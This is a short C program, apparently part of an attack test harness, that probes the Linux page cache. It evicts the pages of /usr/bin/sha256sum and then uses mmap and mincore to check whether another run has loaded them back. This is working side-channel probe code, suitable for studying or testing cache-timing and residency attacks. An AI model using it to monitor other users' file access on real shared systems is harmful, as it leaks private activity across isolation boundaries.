/*
 * Pages that the other run has dropped or read.
 */
#include "../attack.h"

int main(int count, char **words) {
  int file = open("/usr/bin/sha256sum", O_RDONLY);
  unsigned char resident[8] = {0};
  if (leaves(count, words)) {
    posix_fadvise(file, 0, 0, POSIX_FADV_DONTNEED);
    stay();
  }
  mincore(mmap(0, 8 * 4096, PROT_READ, MAP_SHARED, file, 0), 8 * 4096, resident);
  int all = 1;
  for (int i = 0; i < 8; i++) all &= resident[i] & 1;
  printf("%d\n", all);
  return 0;
}
